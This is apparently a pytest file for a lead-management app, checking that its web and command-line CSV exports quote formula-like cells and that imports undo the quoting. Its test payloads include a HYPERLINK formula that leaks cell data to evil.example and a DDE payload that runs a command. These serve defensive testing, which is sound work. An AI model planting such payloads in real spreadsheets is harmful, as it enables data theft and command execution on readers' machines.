"""Every CSV export quotes cells a spreadsheet would run as a formula, and imports undo it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from nurture.cli import main
from nurture.core import csvsafe
from nurture.leads.models import ConsentRecord, Lead
from tests.factories import make_lead
from tests.studio.conftest import Studio

# What a lead or a browser controls ends up in an export: names, user agents, sources.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_like_cell_is_quoted_and_restored(text: str) -> None:
    assert csvsafe.neutralise(text) == "'" + text
    assert csvsafe.restore(csvsafe.neutralise(text)) == text


@pytest.mark.parametrize("text", ["Robin", "2026-01-01T10:00:00+00:00", "", "a=b", "'quoted"])
def test_plain_cells_survive_the_round_trip(text: str) -> None:
    assert csvsafe.restore(csvsafe.neutralise(text)) == text
    assert not csvsafe.neutralise(text).startswith(csvsafe.FORMULA_STARTS)


def _seed(session) -> None:  # type: ignore[no-untyped-def]
    for i, payload in enumerate(PAYLOADS):
        lead = make_lead(session, email_address=f"p{i}@example.com", first_name=payload)
        session.add(
            ConsentRecord(
                lead_id=lead.id,
                text_version="v1",  # the service's own label (40 characters at most)
                text=payload,
                source=payload,
                user_agent=payload,
            )
        )
    session.commit()


def _assert_inert(text: str, columns: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for column in columns:
            assert row[column] == "'" + payload, (column, row[column])
        for cell in row.values():
            assert not cell.startswith(csvsafe.FORMULA_STARTS), cell


def _read(path: Path) -> str:
    with path.open(newline="", encoding="utf-8") as fh:  # keep a quoted carriage return
        return fh.read()


def test_the_studio_exports_are_inert_in_a_spreadsheet(admin_studio: Studio, session) -> None:
    _seed(session)
    leads = admin_studio.get("/studio/leads/export")
    assert leads.status_code == 200
    _assert_inert(leads.text, ["first_name"])
    consent = admin_studio.get("/studio/admin/exports/consent")
    assert consent.status_code == 200
    _assert_inert(consent.text, ["text", "source", "user_agent"])


def test_the_cli_exports_are_inert_and_a_leads_export_imports_back(
    session, tmp_path: Path, sequences_loaded
) -> None:
    _seed(session)
    runner = CliRunner()
    leads_file = tmp_path / "leads.csv"
    assert runner.invoke(main, ["leads", "export", str(leads_file)]).exit_code == 0
    _assert_inert(_read(leads_file), ["first_name"])
    consent_file = tmp_path / "consent.csv"
    assert runner.invoke(main, ["consent", "export", str(consent_file)]).exit_code == 0
    _assert_inert(_read(consent_file), ["source", "user_agent"])

    # The same file, imported elsewhere, gives back the names as the leads typed them.
    names = {f"p{i}@example.com": p for i, p in enumerate(PAYLOADS) if p.isprintable()}
    rows = list(csv.DictReader(leads_file.open(newline="", encoding="utf-8")))
    for row in rows:
        row["email"] = row["email"].replace("@example.com", "@copy.example")
    kept = [row for row in rows if row["email"].replace("@copy.example", "@example.com") in names]
    copy = tmp_path / "copy.csv"
    with copy.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(kept)
    result = runner.invoke(main, ["leads", "import", str(copy)])
    assert result.exit_code == 0, result.output
    session.expire_all()
    imported = dict(
        session.execute(
            select(Lead.email, Lead.first_name).where(Lead.email.like("%@copy.example"))
        ).all()
    )
    assert imported == {
        email.replace("@example.com", "@copy.example"): name for email, name in names.items()
    }
